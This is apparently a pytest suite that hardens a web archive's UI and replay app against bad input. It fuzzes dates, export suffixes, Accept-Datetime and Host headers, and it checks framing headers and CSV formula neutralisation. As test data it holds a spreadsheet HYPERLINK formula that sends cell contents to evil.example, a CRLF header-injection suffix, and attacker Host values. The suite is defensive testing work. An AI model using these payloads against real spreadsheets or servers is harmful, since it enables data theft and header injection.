"""Bad and hostile input to the web interface and the replay app (issue 8, items 10 and 11):
out-of-range dates, unknown export suffixes, Accept-Datetime at the edge of the calendar,
foreign Host headers (DNS rebinding), framing and sniffing headers, and spreadsheet formulas
in CSV exports. Served through Starlette's TestClient over a real archive loaded from a real
WARC file; the CLI export through click's runner. A hypothesis test sends random paths,
parameters and headers to every route: never a 500."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import quote

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from starlette.testclient import TestClient

from archive.replay.app import accept_datetime, create_replay_app
from archive.store.db import Archive
from archive.warc.reader import list_warcs
from archive.warc.writer import Exchange, RotatingWarcWriter
from archive.web.app import create_app
from archive.web.hosts import allowed_hosts, host_name
from archive.web.views import csv_cell
from crawler.ingest import ingest_files
from scheduler.cli import main
from scheduler.output import to_csv

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")
ROOT = Path(__file__).resolve().parents[1]
WHEN = datetime(2024, 5, 4, 10, 30, tzinfo=UTC)
URL = "http://formula.test/news/2024/05/04/budget-vote.html"
TITLE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Budget vote\")"
PAGE = f"""<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<title>{TITLE}</title><meta property="og:title" content='{TITLE}'>
<meta property="article:published_time" content="2024-05-04T09:00:00Z"></head>
<body><article><h1>{TITLE}</h1>
<p>-The assembly voted on the budget on Saturday after a long debate in the chamber.</p>
<p>+Members from every party spoke; the final count was announced after midnight.</p>
<p>@The speaker thanked the staff of the parliament for their work during the session.</p>
</article></body></html>"""


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    data = tmp_path_factory.mktemp("hardening")
    writer = RotatingWarcWriter(data / "warcs", "formula", host="h")
    writer.write_exchange(Exchange(
        URL, "GET", "/news/2024/05/04/budget-vote.html", (), "HTTP/1.1", 200, "OK",
        (("Content-Type", "text/html; charset=utf-8"),), PAGE.encode(), WHEN,
        metadata={"source": "formula", "kind": "article"}))
    writer.close()
    with Archive(data / "archive.db") as archive:
        ingest_files(archive, list_warcs(data / "warcs"), None, workers=1)
    return data


@pytest.fixture(scope="module")
def ui(data: Path) -> Iterator[TestClient]:
    app = create_app(data, ROOT / "config" / "sources.toml", "http://127.0.0.1:8081",
                     hosts=allowed_hosts("127.0.0.1"))
    with TestClient(app, base_url="http://127.0.0.1:8080") as client:
        yield client


@pytest.fixture(scope="module")
def replay(data: Path) -> Iterator[TestClient]:
    app = create_replay_app(data, hosts=allowed_hosts("127.0.0.1"))
    with TestClient(app, base_url="http://127.0.0.1:8081") as client:
        yield client


# --------------------------------------------------------------------------- item 10

DATES = ["0001-01-01", "0999-12-31", "9999-12-31", "0000-01-01", "10000-01-01"]


@pytest.mark.parametrize("day", DATES)
@pytest.mark.parametrize("name", ["since", "until"])
@pytest.mark.parametrize("path", ["/api/search", "/export.csv", "/export.jsonl"])
def test_out_of_range_dates_are_a_json_400(ui: TestClient, path: str, name: str,
                                           day: str) -> None:
    r = ui.get(path, params={name: day})
    assert r.status_code == 400, r.text
    assert r.headers["content-type"].startswith("application/json")
    assert r.json()["status"] == 400
    assert name in r.json()["error"]


@pytest.mark.parametrize("day", DATES)
@pytest.mark.parametrize("name", ["since", "until"])
def test_out_of_range_dates_are_an_error_page(ui: TestClient, name: str, day: str) -> None:
    r = ui.get("/", params={name: day})
    assert r.status_code == 400
    assert r.headers["content-type"].startswith("text/html")
    assert "out of range" in r.text or "not a date" in r.text


@pytest.mark.parametrize("day", ["1000-01-01", "9999-12-30"])
def test_dates_at_the_ends_of_the_range_are_answered(ui: TestClient, day: str) -> None:
    for name in ("since", "until"):
        assert ui.get("/api/search", params={name: day}).status_code == 200
        assert ui.get("/export.csv", params={name: day}).status_code == 200


@pytest.mark.parametrize("suffix", ["%ff", "%00", "xlsx", "csv%22%0d%0aX-Evil:%201",
                                    "csv.exe", "CSV", "json"])
def test_unknown_export_suffix_is_a_404_and_never_echoed(ui: TestClient, suffix: str) -> None:
    r = ui.get(f"/export.{suffix}")
    assert r.status_code == 404
    assert r.json()["status"] == 404
    assert "content-disposition" not in r.headers
    assert "x-evil" not in r.headers


def test_known_exports_name_their_file(ui: TestClient) -> None:
    for fmt in ("csv", "jsonl"):
        r = ui.get(f"/export.{fmt}")
        assert r.status_code == 200
        assert r.headers["content-disposition"] == f'attachment; filename="mediawatch.{fmt}"'


@pytest.mark.parametrize("value", [
    "Fri, 31 Dec 9999 23:59:59 GMT", "Fri, 31 Dec 9999 23:59:59 -0500",
    "Fri, 31 Dec 9999 23:59:59 +1400", "Mon, 01 Jan 0001 00:00:00 +0100",
    "Sat, 01 Jan 10000 00:00:00 GMT", "Mon, 32 Jan 2024 00:00:00 GMT", "yesterday", ""])
def test_accept_datetime_at_the_edges_is_never_a_500(replay: TestClient, value: str) -> None:
    r = replay.get(f"/replay/{URL}", headers={"Accept-Datetime": value},
                   follow_redirects=False)
    assert r.status_code in (302, 400, 404)


def test_accept_datetime_past_year_9999_asks_for_the_latest() -> None:
    assert accept_datetime("Fri, 31 Dec 9999 23:59:59 -0500") == datetime.max.replace(tzinfo=UTC)
    assert accept_datetime("Fri, 31 Dec 9999 23:59:59 GMT") == \
        datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC)


# --------------------------------------------------------------------------- item 11


@pytest.mark.parametrize("path", ["/", "/api/search", "/sources", "/export.csv",
                                  "/articles/none", "/api/articles/none", "/nowhere",
                                  "/static/style.css", "/export.xlsx"])
def test_every_ui_response_refuses_framing_and_sniffing(ui: TestClient, path: str) -> None:
    r = ui.get(path)
    assert r.status_code < 500
    assert r.headers["x-frame-options"] == "DENY"
    assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
    assert r.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("host", ["127.0.0.1:8080", "localhost:8080", "LOCALHOST", "[::1]:8080",
                                  "127.0.0.1"])
def test_ui_answers_the_names_it_was_started_for(ui: TestClient, host: str) -> None:
    assert ui.get("/api/search", headers={"Host": host}).status_code == 200


@pytest.mark.parametrize("host", ["attacker.example", "attacker.example:8080",
                                  "127.0.0.1.nip.io:8080", "localhost.attacker.example"])
def test_foreign_host_is_refused_by_both_apps(ui: TestClient, replay: TestClient,
                                              host: str) -> None:
    for client, path in ((ui, "/api/search"), (replay, f"/replay/20240504103000/{URL}")):
        r = client.get(path, headers={"Host": host})
        assert r.status_code == 421
        assert "attacker" not in r.text
        assert "content-security-policy" not in r.headers or \
            "attacker" not in r.headers["content-security-policy"]


@pytest.mark.parametrize("host", ["a b", "x;script-src *", "'self'", "a,b", "", "a/b"])
def test_malformed_host_is_a_400(replay: TestClient, host: str) -> None:
    r = replay.get(f"/replay/20240504103000/{URL}", headers={"Host": host})
    assert r.status_code == 400


def test_replay_csp_names_only_an_allowed_origin(data: Path) -> None:
    app = create_replay_app(data, hosts=allowed_hosts("127.0.0.1", ["archive.example.org"]))
    with TestClient(app, base_url="http://archive.example.org:8081") as client:
        r = client.get(f"/replay/20240504103000/{URL}")
        assert r.status_code == 200
        assert "http://archive.example.org:8081" in r.headers["content-security-policy"]
        assert client.get(f"/replay/20240504103000/{URL}",
                          headers={"Host": "evil.example"}).status_code == 421


def test_allowed_hosts() -> None:
    assert allowed_hosts("127.0.0.1") == {"127.0.0.1", "localhost", "::1"}
    assert allowed_hosts("10.1.2.3", ["News.Example.org"]) == {"10.1.2.3", "news.example.org"}
    assert "localhost" in allowed_hosts("0.0.0.0")
    assert "0.0.0.0" not in allowed_hosts("0.0.0.0")
    assert host_name("[::1]:8080") == "::1"
    assert host_name("a b") is None
    with pytest.raises(ValueError, match="not a host name"):
        allowed_hosts("127.0.0.1", ["evil;x"])


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("plain", "plain"), (None, ""), (3, 3),
    (["=a", "b"], "'=a; b"), ("a=b", "a=b")])
def test_csv_cell_neutralises_formulas(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def _formula_cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) >= 2
    return [c for row in rows[1:] for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_web_csv_export_neutralises_formulas(ui: TestClient) -> None:
    r = ui.get("/export.csv")
    assert r.status_code == 200
    assert "'=HYPERLINK(" in r.text
    assert _formula_cells(r.text) == []


def test_cli_csv_exports_neutralise_formulas(data: Path) -> None:
    runner = CliRunner()
    base = ["--config", str(ROOT / "config" / "sources.toml"), "--data", str(data)]
    out = runner.invoke(main, [*base, "export", "--format", "csv"])
    assert out.exit_code == 0, out.output
    assert "'=HYPERLINK(" in out.stdout
    assert _formula_cells(out.stdout) == []
    assert _formula_cells(to_csv([{"title": TITLE, "n": -1}], ["title", "n"])) == ["-1"]


# --------------------------------------------------------------------------- any request

_PATHS = st.sampled_from(["/", "/api/search", "/export.csv", "/export.jsonl", "/sources",
                          "/api/sources", "/articles/", "/api/articles/", "/replay-frame/",
                          "/export.", "/static/", "/nowhere/"])
_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=30)
_PARAMS = st.dictionaries(st.sampled_from(["q", "since", "until", "page", "per_page", "sort",
                                           "source", "lang", "tag", "x"]),
                          st.one_of(_TEXT, st.dates().map(str),
                                    st.integers(-10**20, 10**20).map(str)), max_size=5)
_HEADER_VALUE = st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=40)


@settings(max_examples=300, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(path=_PATHS, tail=_TEXT, params=_PARAMS,
       headers=st.dictionaries(st.sampled_from(["Accept", "Accept-Datetime", "Range",
                                                "If-None-Match", "Cookie", "Host"]),
                               _HEADER_VALUE, max_size=3))
def test_random_ui_requests_are_never_a_500(ui: TestClient, path: str, tail: str,
                                            params: dict[str, str],
                                            headers: dict[str, str]) -> None:
    # Raw %-sequences pass as they are (%ff, %00); other bytes the client cannot send.
    r = ui.get(path + quote(tail, safe="/%?&="), params=params, headers=headers)
    assert r.status_code < 500, (path + tail, params, headers, r.text[:300])


@settings(max_examples=300, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(ts=st.one_of(st.sampled_from(["20240504103000", "20240504103000id_", "*", "timemap/link",
                                     "99991231235959", "00000000000000", "0", ""]),
                    _TEXT),
       url=st.one_of(st.just(URL), _TEXT),
       headers=st.dictionaries(st.sampled_from(["Accept-Datetime", "Range", "Host"]),
                               _HEADER_VALUE, max_size=2))
def test_random_replay_requests_are_never_a_500(replay: TestClient, ts: str, url: str,
                                                headers: dict[str, str]) -> None:
    r = replay.get(f"/replay/{quote(ts, safe='/%*')}/{quote(url, safe='/%:?&=')}",
                   headers=headers, follow_redirects=False)
    assert r.status_code < 500, (ts, url, headers, r.text[:300])
